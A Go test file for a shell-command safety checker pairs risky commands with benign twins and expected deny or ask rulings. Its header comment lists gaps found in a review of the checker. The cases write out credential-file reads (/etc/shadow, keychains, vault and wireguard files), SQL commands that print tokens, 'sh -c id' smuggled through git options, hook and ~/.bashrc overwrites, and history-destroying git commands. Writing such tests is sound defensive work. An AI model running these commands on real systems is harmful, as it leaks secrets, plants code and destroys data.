package safety

import "maps"

// nineteenthCatalogue holds the nineteenth engine review's rows. git push's target was read from
// -c settings only when they were literal: git --config-env=remote.pushDefault=P push (P from the
// environment) and git -c remote.pushDefault="$R" push pushed where a project rule on the remote
// could not see, admitted, and git -c remote.origin.url=URL (pushurl, url.BASE.insteadOf,
// pushInsteadOf) sent a push to "origin" to another repository unseen by a rule on its URL.
// GIT_CONFIG_KEY_n/GIT_CONFIG_VALUE_n exported alone set git's configuration when the
// environment already holds GIT_CONFIG_COUNT. curl -OJ and wget --content-disposition (also
// --trust-server-names, -i FILE, a recursive download without its host directory) write a file
// whose name the server chooses, admitted as the URL's own name: in ~ that can be .bashrc, in the
// project .envrc. wget -x (and a recursive download) writes the URL's whole path below the host's
// directory, or below the working directory with -nH: wget -x -nH http://x/.git/hooks/pre-commit
// wrote a hook, judged as a write of ./pre-commit. Beside branch -D, reset --hard and gc
// --prune, the other ways to lose commits or a release's name were admitted: branch -f/-M/-C,
// checkout -B and switch -C (an existing branch reset), update-ref REF VALUE (its plumbing), a
// forced fetch into a local branch (+main:main), tag -d/-f, symbolic-ref -d HEAD and repack -a -d
// (unreachable objects dropped at once). Ansible's vault password files (.vault_pass,
// .vault_password, vault_pass.txt) and other password files of their kind (.smbcredentials,
// _netrc, ~/.subversion/auth, davfs2's secrets, /etc/wireguard, ppp's and ipsec's secrets,
// rsyncd.secrets, Apple's AuthKey_*.p8, the macOS keychains, FileZilla's saved sites) were not
// zero-access, and --vault-id LABEL@FILE read its file unjudged. A rule written with an option's
// long spelling missed its short alias: a project's pattern "^kubectl .*--namespace prod" let
// kubectl get pods -n prod through (and -nprod), "^curl .*--request DELETE" curl -X DELETE, and a
// Flags rule naming --server kubectl -s URL (Flags rules are the pack's and Go callers' only:
// a ProjectPolicy writes patterns). The ordinary formatters and linters wrote where they were told
// unjudged: prettier --write ~/.bashrc, gofmt -w and eslint --fix of a hook, eslint -o (its report)
// and tsc --outDir, --outFile, --declarationDir, --tsBuildInfoFile (in any case, as tsc reads
// them) into .git/hooks, and vitest's dotted --outputFile.junit=FILE.
func nineteenthCatalogue() []classCase {
	sh := shCall
	const (
		pushTarget = "git push's target set by a setting computed at run time or redirected by a URL setting"
		serverName = "a download writes the name the server chooses, or the URL's whole path"
	)
	const secretFile = "a password file of a well-known kind, zero-access by default"
	const alias = "an option's short alias, seen by a rule written with its long spelling"
	const formats = "a formatter's, linter's or compiler's own writes"
	const loads = "an option or variable that runs or loads code, or a SQL shell that prints the environment"
	const gitMv = "git mv deletes its sources, as mv does"
	noDelete := denied(RulePrefixPathPolicy + "noDelete")
	const search = "ugrep and ripgrep-all search recursively, as grep -r and rg do"
	const computedWord = "a computed word where a project's pattern rule looks"
	const moved = "a destructive git history operation beside the ones gated"
	zero, opaque := denied(RulePrefixPathPolicy+"zeroAccess"), asked(RuleOpaqueCode)
	dynWrite, noWrite := asked(RuleDynamicWriteTarget), denied(RulePrefixPathPolicy+"noWrite")
	pushProd, pushURL := asked(dc+"git-push-prod"), asked(dc+"git-push-prod-url")
	unresolved := asked(RuleUnresolvedWord)
	return []classCase{
		{pushTarget, "--config-env=remote.pushDefault from the environment", sh(`git --config-env=remote.pushDefault=P push`), unresolved,
			sh(`P=origin git --config-env=remote.pushDefault=P push`), false},
		{pushTarget, "--config-env apart", sh(`git --config-env remote.pushDefault=P push`), unresolved, sh(`git --config-env color.ui=C push`), false},
		{pushTarget, "-c remote.pushDefault computed", sh(`git -c remote.pushDefault="$R" push`), unresolved, sh(`git -c remote.pushDefault=origin push`), false},
		{pushTarget, "-c with the whole setting computed but its key", sh(`git -c "remote.pushDefault=$R" push`), unresolved, sh(`git -c "push.default=$D" push`), false},
		{pushTarget, "branch.NAME.pushRemote from the environment", sh(`git --config-env=branch.main.pushRemote=P push`), unresolved,
			sh(`git --config-env=branch.main.pushRemote=P push origin main`), false},
		{pushTarget, "branch.NAME.remote computed", sh(`git -c branch.main.remote=$R push`), unresolved, sh(`git -c branch.main.merge=$M push`), false},
		{pushTarget, "remote.NAME.pushurl computed", sh(`git -c remote.origin.pushurl="$U" push origin main`), unresolved,
			sh(`git -c remote.origin.pushurl=https://staging.example/app.git push origin main`), false},
		{pushTarget, "remote.NAME.url from the environment", sh(`git --config-env=remote.origin.url=U push origin`), unresolved,
			sh(`git --config-env=remote.origin.url=U fetch origin`), false},
		{pushTarget, "remote.NAME.url to the production repository", sh(`git -c remote.origin.url=https://prod.example/app.git push origin`), pushURL,
			sh(`git -c remote.origin.url=https://staging.example/app.git push origin`), false},
		{pushTarget, "remote.NAME.pushurl, case folded", sh(`git -c Remote.Origin.PushURL=https://prod.example/app.git push origin main`), pushURL,
			sh(`git -c remote.origin.pushurl=https://staging.example/app.git push origin main`), false},
		{pushTarget, "url.BASE.pushInsteadOf rewrites the URL given", sh(`git -c url.https://prod.example/.pushInsteadOf=https://staging.example/ push https://staging.example/app.git`), pushURL,
			sh(`git -c url.https://mirror.example/.pushInsteadOf=https://staging.example/ push https://staging.example/app.git`), false},
		{pushTarget, "url.BASE.insteadOf, --config-env", sh(`V=https://staging.example/ git --config-env=url.https://prod.example/.insteadOf=V push https://staging.example/app.git main`), pushURL,
			sh(`git push https://staging.example/app.git main`), false},
		{pushTarget, "url.BASE.insteadOf naming the remote", sh(`git -c url.prod.insteadOf=origin push origin`), pushProd, sh(`git -c url.staging.insteadOf=origin push origin`), false},
		{pushTarget, "GIT_CONFIG_KEY_0 exported alone", sh(`export GIT_CONFIG_KEY_0=remote.pushDefault GIT_CONFIG_VALUE_0=prod; git push`), asked(RuleOpaqueCode),
			sh(`export GIT_CONFIG_NOSYSTEM=1; git push`), false},
		{pushTarget, "GIT_CONFIG_VALUE_1 as a prefix", sh(`GIT_CONFIG_VALUE_1=id git log`), asked(RuleOpaqueCode), sh(`GIT_TERMINAL_PROMPT=0 git log`), false},
		{serverName, "curl -O -J", sh(`curl -O -J https://x.example/dl`), dynWrite, sh(`curl -O https://x.example/dl`), false},
		{serverName, "curl -OJ bundled, in the home directory", sh(`cd ~ && curl -sSLOJ https://x.example/dl`), dynWrite, sh(`cd build && curl -sSLO https://x.example/dl.tgz`), false},
		{serverName, "curl's long spellings", sh(`curl --remote-name --remote-header-name https://x.example/dl`), dynWrite, sh(`curl --remote-header-name -o out.bin https://x.example/dl`), false},
		{serverName, "curl -OJ into --output-dir", sh(`curl -OJ --output-dir ~ https://x.example/dl`), dynWrite, sh(`curl -O --output-dir build https://x.example/dl.tgz`), false},
		{serverName, "wget --content-disposition", sh(`wget --content-disposition https://x.example/dl`), dynWrite, sh(`wget --content-disposition=off https://x.example/dl`), false},
		{serverName, "wget --content-disposition abbreviated, into ~", sh(`wget --content-disp -P ~ https://x.example/dl`), dynWrite, sh(`wget -P build https://x.example/dl.tgz`), false},
		{serverName, "wget --trust-server-names", sh(`wget --trust-server-names https://x.example/latest`), dynWrite, sh(`wget -O latest.tgz --trust-server-names https://x.example/latest`), false},
		{serverName, "wget -i, URLs from a file", sh(`wget -i urls.txt`), dynWrite, sh(`wget -O - -i urls.txt`), false},
		{serverName, "wget -r -nd, the links' names in the directory", sh(`wget -r -nd https://x.example/`), dynWrite, sh(`wget -r https://x.example/docs/`), false},
		{serverName, "wget -m -nH", sh(`cd ~ && wget -m -nH https://x.example/`), dynWrite, sh(`wget -m https://x.example/`), false},
		{serverName, "wget -x -nH writes the URL's path", sh(`wget -x -nH https://x.example/.git/hooks/pre-commit`), noWrite, sh(`wget -x -nH https://x.example/docs/a.html`), false},
		{serverName, "wget --force-directories below /", sh(`wget --force-directories --no-host-directories -P / https://x.example/etc/cron.d/job`), noWrite,
			sh(`wget --force-directories -P build https://x.example/etc/cron.d/job`), false},
		{serverName, "aria2c into ~, the URL's name", sh(`aria2c -d ~ https://x.example/.bashrc`), noWrite, sh(`curl -sLO https://x.example/app.tgz`), false},
		{serverName, "aria2c -o below its -d", sh(`aria2c --dir=/etc --out=cron.d/job https://x.example/x`), noWrite, sh(`curl -o build/job https://x.example/x`), false},
		{serverName, "aria2c, the server's name", sh(`aria2c https://x.example/dl`), dynWrite, sh(`curl -o dl.bin https://x.example/dl`), false},
		{serverName, "httpie --download", sh(`http --download https://x.example/dl`), dynWrite, sh(`curl -sS https://x.example/api`), false},
		{serverName, "xh -d in ~", sh(`cd ~ && xh -d https://x.example/dl`), dynWrite, sh(`curl -sS -o build/dl https://x.example/dl`), false},
		{serverName, "gh release download into ~", sh(`gh release download v1.2.0 -D ~`), dynWrite, sh(`gh run view 123`), false},
		{serverName, "gh run download", sh(`gh run download 123 -D ~/.config`), dynWrite, sh(`gh run view 123 --log`), false},
		{serverName, "wget -r -nH for a page's own path", sh(`wget -r -l1 -nH https://x.example/.git/hooks/pre-push`), noWrite, sh(`wget -r -l1 https://x.example/docs/`), false},
		{moved, "branch -f moves a branch", sh(`git branch -f main HEAD~3`), denied(dc + "git-branch-force"), sh(`git branch new-feature`), false},
		{moved, "branch --force, abbreviated", sh(`git branch --forc main origin/old`), denied(dc + "git-branch-force"), sh(`git branch --format='%(refname)'`), false},
		{moved, "branch -M renames over a branch", sh(`git branch -M feature main`), denied(dc + "git-branch-force"), sh(`git branch -m feature topic`), false},
		{moved, "branch -C copies over a branch", sh(`git branch -C feature main`), denied(dc + "git-branch-force"), sh(`git -C ../other branch topic`), false},
		{moved, "checkout -B resets a branch", sh(`git checkout -B main origin/old`), denied(dc + "git-checkout-force-create"), sh(`git checkout -b topic origin/main`), false},
		{moved, "switch -C", sh(`git switch -C main HEAD~3`), denied(dc + "git-checkout-force-create"), sh(`git -C ../other switch -c topic`), false},
		{moved, "switch --force-create abbreviated", sh(`git switch --force-c main HEAD~3`), denied(dc + "git-checkout-force-create"), sh(`git switch --create topic`), false},
		{moved, "update-ref moves a branch", sh(`git update-ref -m rewind refs/heads/main HEAD~5`), denied(dc + "git-update-ref-move"), sh(`git update-ref refs/bisect/good HEAD`), false},
		{moved, "update-ref moves HEAD", sh(`git update-ref HEAD HEAD~5`), denied(dc + "git-update-ref-move"), sh(`git rev-parse HEAD~5`), false},
		{moved, "a forced fetch into the local branch", sh(`git fetch origin +main:main`), denied(dc + "git-fetch-force-branch"), sh(`git fetch origin +refs/heads/*:refs/remotes/origin/*`), false},
		{moved, "fetch -f with a refspec", sh(`git fetch -f origin main:main`), denied(dc + "git-fetch-force-branch"), sh(`git fetch origin pull/1/head:pr-1`), false},
		{moved, "pull of a forced refspec", sh(`git pull origin +main:main`), denied(dc + "git-fetch-force-branch"), sh(`git pull --force origin main`), false},
		{moved, "tag -d", sh(`git tag -d v1.0.0`), denied(dc + "git-tag-delete"), sh(`git tag v1.0.1`), false},
		{moved, "tag --delete", sh(`git tag --delete v1.0.0`), denied(dc + "git-tag-delete"), sh(`git tag -a v1.0.1 -m release`), false},
		{moved, "tag -f moves a release", sh(`git tag -fa v1.0.0 -m x HEAD~2`), denied(dc + "git-tag-delete"), sh(`git tag -l 'v1.*'`), false},
		{moved, "symbolic-ref -d HEAD", sh(`git symbolic-ref -d HEAD`), denied(dc + "git-symbolic-ref-delete"), sh(`git symbolic-ref --short HEAD`), false},
		{moved, "symbolic-ref --delete", sh(`git symbolic-ref --delete HEAD`), denied(dc + "git-symbolic-ref-delete"), sh(`git symbolic-ref HEAD refs/heads/topic`), false},
		{moved, "repack -a -d drops unreachable objects", sh(`git repack -a -d`), denied(dc + "git-repack-drop"), sh(`git repack -A -d`), false},
		{moved, "repack -adf bundled", sh(`git repack -adf --depth=50`), denied(dc + "git-repack-drop"), sh(`git repack -a -d --cruft`), false},
		{secretFile, "ansible's .vault_pass", sh(`cat .vault_pass`), zero, sh(`cat ansible.cfg`), false},
		{secretFile, ".vault_pass.txt in the home directory", sh(`head -1 ~/.vault_pass.txt`), zero, sh(`head -1 ~/ansible/hosts.ini`), false},
		{secretFile, ".vault_password", sh(`cp .vault_password /tmp/v`), zero, sh(`cp group_vars/all.yml /tmp/v`), false},
		{secretFile, "vault_pass.txt", sh(`base64 vault_pass.txt`), zero, sh(`base64 vault.yml`), false},
		{secretFile, "the file of --vault-id LABEL@FILE", sh(`ansible-playbook --vault-id dev@.vault_pass site.yml`), zero, sh(`ansible-playbook --vault-id dev@prompt site.yml`), false},
		{secretFile, "--vault-id of the shadow file", sh(`ansible all -m ping --vault-id x@/etc/shadow`), zero, sh(`ansible all -m ping --vault-id x@vault.txt`), false},
		{secretFile, "--vault-password-file of .vault_pass, read as --env-file .env is", sh(`ansible-playbook --vault-password-file .vault_pass site.yml`), zero,
			sh(`ansible-playbook --vault-password-file vault.txt site.yml`), false},
		{secretFile, "cifs mount credentials", sh(`cat ~/.smbcredentials`), zero, sh(`cat ~/.smb.conf.example`), false},
		{secretFile, "Windows' _netrc", sh(`cat _netrc`), zero, sh(`cat README.md`), false},
		{secretFile, "subversion's stored passwords", sh(`grep -r password ~/.subversion/auth/`), zero, sh(`cat ~/.subversion/config`), false},
		{secretFile, "davfs2's secrets", sh(`cat /etc/davfs2/secrets`), zero, sh(`cat /etc/davfs2/davfs2.conf`), false},
		{secretFile, "wireguard's private keys", sh(`cat /etc/wireguard/wg0.conf`), zero, sh(`cat /etc/hostname`), false},
		{secretFile, "ppp's chap-secrets", sh(`cat /etc/ppp/chap-secrets`), zero, sh(`cat /etc/ppp/options`), false},
		{secretFile, "ipsec.secrets", sh(`cat /etc/ipsec.secrets`), zero, sh(`cat /etc/ipsec.conf`), false},
		{secretFile, "rsyncd.secrets", sh(`cat /etc/rsyncd.secrets`), zero, sh(`cat /etc/rsyncd.conf`), false},
		{secretFile, "an App Store Connect key", sh(`cat AuthKey_ABC123.p8`), zero, sh(`cat ExportOptions.plist`), false},
		{secretFile, "the macOS keychain", sh(`cp ~/Library/Keychains/login.keychain-db /tmp/k`), zero, sh(`ls ~/Library/Caches`), false},
		{secretFile, "FileZilla's saved passwords", sh(`cat ~/.config/filezilla/sitemanager.xml`), zero, sh(`cat ~/.config/filezilla/filezilla.xml`), false},
		{alias, "kubectl -n payments", sh(`kubectl get pods -n payments`), asked(dc + "payments-namespace"), sh(`kubectl get pods -n staging`), false},
		{alias, "kubectl -npayments attached", sh(`kubectl logs deploy/api -npayments`), asked(dc + "payments-namespace"), sh(`kubectl logs deploy/api -npayments-canary`), false},
		{alias, "kubectl -n before the subcommand", sh(`kubectl -n payments get pods`), asked(dc + "payments-namespace"), sh(`kubectl -n dev get pods`), false},
		{alias, "helm -n payments", sh(`helm list -n payments`), asked(dc + "payments-namespace"), sh(`helm list -n dev`), false},
		{alias, "curl -X DELETE", sh(`curl -X DELETE https://api.example/v1/users/1`), asked(dc + "api-delete"), sh(`curl -X GET https://api.example/v1/users/1`), false},
		{alias, "curl -XDELETE attached", sh(`curl -sXDELETE https://api.example/v1/users/1`), asked(dc + "api-delete"), sh(`curl -sXPOST https://api.example/v1/users`), false},
		{alias, "gh -R", sh(`gh pr view -R acme/prod 12`), asked(dc + "prod-repo"), sh(`gh pr view -R acme/staging 12`), false},
		{alias, "a Flags rule's --server, as kubectl -s", sh(`kubectl -s https://prod.example:6443 get ns`), asked(dc + "kubectl-other-cluster"), sh(`kubectl get ns -o wide`), false},
		{formats, "prettier --write of a start-up file", sh(`prettier --write ~/.bashrc`), noWrite, sh(`prettier --write src/app.ts`), false},
		{formats, "prettier -w of a hook", sh(`prettier -w .git/hooks/pre-commit`), noWrite, sh(`prettier --check .git/hooks/pre-commit`), false},
		{formats, "gofmt -w", sh(`gofmt -w ~/.bashrc`), noWrite, sh(`gofmt -l ~/.bashrc`), false},
		{formats, "eslint --fix", sh(`eslint --fix .git/hooks/pre-commit`), noWrite, sh(`eslint --fix src`), false},
		{formats, "eslint -o, its report", sh(`eslint -o ~/.bashrc .`), noWrite, sh(`eslint -o build/eslint.txt .`), false},
		{formats, "eslint --output-file=", sh(`eslint --output-file=.git/hooks/pre-push src`), noWrite, sh(`eslint --output-file=reports/lint.json src`), false},
		{formats, "tsc --outDir", sh(`tsc --outDir .git/hooks`), noWrite, sh(`tsc --outDir dist`), false},
		{formats, "tsc --outdir in another case", sh(`tsc --OUTDIR=~/.config/systemd/user`), noWrite, sh(`tsc --outdir=build`), false},
		{formats, "tsc --outFile", sh(`tsc --outFile ~/.bashrc src/a.ts`), noWrite, sh(`tsc --outFile dist/app.js src/a.ts`), false},
		{formats, "tsc --tsBuildInfoFile", sh(`tsc --incremental --tsBuildInfoFile .git/hooks/post-checkout`), noWrite, sh(`tsc --incremental --tsBuildInfoFile build/.tsbuildinfo`), false},
		{formats, "vitest's dotted --outputFile.junit=", sh(`vitest run --reporter=junit --outputFile.junit=.git/hooks/pre-commit`), noWrite,
			sh(`vitest run --reporter=junit --outputFile.junit=reports/junit.xml`), false},
		{loads, "git send-email --to-cmd", sh(`git send-email --to-cmd='sh -c id' 0001.patch`), opaque, sh(`git send-email --to=dev@example.com 0001.patch`), false},
		{loads, "git send-email --cc-cmd", sh(`git send-email --cc-cmd ./cc.sh 0001.patch`), opaque, sh(`git send-email --cc dev@example.com 0001.patch`), false},
		{loads, "git send-email --header-cmd, abbreviated", sh(`git send-email --header-c=id 0001.patch`), opaque, sh(`git send-email --dry-run 0001.patch`), false},
		{loads, "git instaweb --httpd", sh(`git instaweb --httpd='sh -c id'`), opaque, sh(`git instaweb --local`), false},
		{loads, "git instaweb -d", sh(`git instaweb -d /tmp/x`), opaque, sh(`git branch -d topic`), false},
		{loads, "curl --engine", sh(`curl --engine /tmp/x.so https://x.example`), opaque, sh(`curl --cert-type PEM https://x.example`), false},
		{loads, "OPENSSL_CONF", sh(`OPENSSL_CONF=/tmp/x.cnf curl https://x.example`), opaque, sh(`LANG=C git fetch`), false},
		{loads, "OPENSSL_CONF exported", sh(`export OPENSSL_CONF=/tmp/x.cnf; git fetch`), opaque, sh(`export GIT_TERMINAL_PROMPT=0; git fetch`), false},
		{loads, "OPENSSL_MODULES", sh(`OPENSSL_MODULES=/tmp git fetch`), opaque, sh(`GIT_TRACE=1 git fetch`), false},
		{loads, "duckdb's getenv", sh(`duckdb -c "select getenv('GITHUB_TOKEN')"`), opaque, sh(`duckdb -c "select version()"`), false},
		{loads, "duckdb's GETENV in upper case", sh(`duckdb data.db "SELECT GETENV('AWS_SECRET_ACCESS_KEY')"`), opaque, sh(`duckdb data.db "SELECT count(*) FROM events"`), false},
		{loads, "duckdb's shellfs runs a file name", sh(`duckdb -c "load shellfs; select * from read_csv('env |')"`), opaque,
			sh(`duckdb -c "load json; select * from read_json('data.json')"`), false},
		{loads, "duckdb -unsigned", sh(`duckdb -unsigned -c "load x"`), opaque, sh(`duckdb -readonly data.db -c "select 1"`), false},
		{loads, "psql's \\getenv", sh(`psql -c '\getenv t GITHUB_TOKEN' -c '\echo :t'`), opaque, sh(`psql -c '\echo hello'`), false},
		{gitMv, "git mv README.md", sh(`git mv README.md docs/README.md`), noDelete, sh(`git mv src/a.go src/b.go`), false},
		{gitMv, "git mv of LICENSE into a directory", sh(`git mv LICENSE docs/`), noDelete, sh(`git mv -n LICENSE docs/`), false},
		{gitMv, "git mv -k .git", sh(`git mv -k .git old`), noDelete, sh(`git mv docs old-docs`), false},
		{gitMv, "past git -C", sh(`git -C ../lib mv README.md x.md`), noDelete, sh(`git -C ../lib mv a.go b.go`), false},
		{search, "ugrep -r of the home directory", sh(`ugrep -r KEY ~`), zero, sh(`grep -r TODO src`), false},
		{search, "ugrep -R of /root", sh(`ugrep -R PASSWORD /root`), zero, sh(`grep -R PASSWORD docs`), false},
		{search, "ugrep -r of the project", sh(`ugrep -r SECRET .`), asked(RuleContainsProtected), sh(`grep -rn SECRET src/`), false},
		{search, "rga of the home directory", sh(`rga KEY ~`), zero, sh(`rg KEY src`), false},
		{search, "rga -uu of /root", sh(`rga -uu SECRET /root`), zero, sh(`rg -uu SECRET docs`), false},
		{computedWord, "helm --kube-context \"$C\"", sh(`helm list --kube-context "$C"`), unresolved, sh(`helm list --kube-context staging`), false},
		{computedWord, "helm --kube-context=$C", sh(`helm list --kube-context=$C`), unresolved, sh(`helm list --kube-context=dev`), false},
		{computedWord, "an unquoted $ARGS may be several words", sh(`helm list $ARGS`), unresolved, sh(`helm list --all`), false},
		{computedWord, "helm -n computed, the rule written with --namespace", sh(`helm status web -n "$NS"`), unresolved, sh(`helm status web -n dev`), false},
		{computedWord, "curl -X computed", sh(`curl -X "$METHOD" https://api.example/v1/users/1`), unresolved, sh(`curl -X GET https://api.example/v1/users/1`), false},
		{computedWord, "gh -R computed", sh(`gh pr view -R "$REPO" 12`), unresolved, sh(`gh pr view -R acme/staging 12`), false},
	}
}

func init() {
	maps.Copy(rulePackExamples, map[string]struct{ hits, misses []string }{
		"git-branch-force":          {[]string{"git branch -f main HEAD~1", "git branch -M a b", "git branch -C a b", "git branch --force x"}, []string{"git branch x", "git -C . branch x", "git branch -m a b"}},
		"git-checkout-force-create": {[]string{"git checkout -B main", "git switch -C main", "git switch --force-create main"}, []string{"git checkout -b x", "git switch -c x"}},
		"git-tag-delete":            {[]string{"git tag -d v1", "git tag --delete v1", "git tag -f v1"}, []string{"git tag v1", "git tag -l"}},
		"git-symbolic-ref-delete":   {[]string{"git symbolic-ref -d HEAD", "git symbolic-ref --delete HEAD"}, []string{"git symbolic-ref HEAD"}},
		"git-update-ref-move":       {[]string{"git update-ref refs/heads/main HEAD~1", "git update-ref HEAD x y", "git update-ref refs/tags/v1 HEAD"}, []string{"git update-ref refs/remotes/origin/x HEAD"}},
		"git-repack-drop":           {[]string{"git repack -a -d", "git repack -ad"}, []string{"git repack -A -d", "git repack -d", "git repack -a -d -k"}},
		"git-fetch-force-branch":    {[]string{"git fetch origin +main:main", "git fetch --force origin a:a", "git pull origin +x:x"}, []string{"git fetch", "git fetch origin main", "git fetch origin +refs/heads/*:refs/remotes/origin/*"}},
	})
}
